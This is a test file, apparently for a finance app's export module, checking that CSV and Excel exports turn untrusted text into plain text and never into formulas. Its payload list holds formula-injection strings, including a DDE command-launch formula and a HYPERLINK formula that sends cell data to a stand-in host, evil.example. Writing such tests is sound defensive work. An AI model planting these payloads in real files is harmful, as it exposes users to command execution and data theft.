"""Untrusted text never becomes a formula in a spreadsheet or CSV we write."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from fundops.exports import csv_text, xlsx_append, xlsx_text

PAYLOADS = [
    "=cmd|' /c calc'!A0",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")',
    "+1",
    "-1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=1+1\x00\x07\x1b",
    "  =SUM(A1:A2)",
    "Ordinary text",
]
# The payloads as a record can hold them: NUL never reaches the database (forms and the
# middleware refuse it; PostgreSQL cannot store it), the other control characters can.
STORED_PAYLOADS = [payload.replace("\x00", "") for payload in PAYLOADS]


def test_payloads_leave_no_formula_cells_in_a_workbook():
    workbook = Workbook()
    sheet = workbook.active
    for payload in PAYLOADS:
        xlsx_append(sheet, [payload, Decimal("12.50")])
    buffer = io.BytesIO()
    workbook.save(buffer)

    reloaded = load_workbook(io.BytesIO(buffer.getvalue())).active
    cells = [cell for row in reloaded.iter_rows() for cell in row]
    assert [c for c in cells if c.data_type == "f"] == []
    texts = [row[0].value for row in reloaded.iter_rows()]
    assert texts[0] == "=cmd|' /c calc'!A0"  # shown exactly as typed, as text
    assert texts[8] == "=1+1"  # control characters removed, not a crash
    assert all(reloaded.cell(i + 1, 1).quotePrefix for i in range(len(PAYLOADS) - 1))
    assert not reloaded.cell(len(PAYLOADS), 1).quotePrefix
    assert reloaded.cell(1, 2).value == 12.5


@pytest.mark.parametrize("payload", PAYLOADS[:-1])
def test_payloads_in_csv_start_with_an_apostrophe(payload):
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_text(payload)])
    field = next(csv.reader(io.StringIO(buffer.getvalue())))[0]
    assert field.startswith("'")


def test_ordinary_text_is_unchanged():
    assert csv_text("Selly Oak Genomics Ltd") == "Selly Oak Genomics Ltd"
    cell = Workbook().active["A1"]
    xlsx_text(cell, "Prototype housing")
    assert cell.value == "Prototype housing"
    assert not cell.quotePrefix
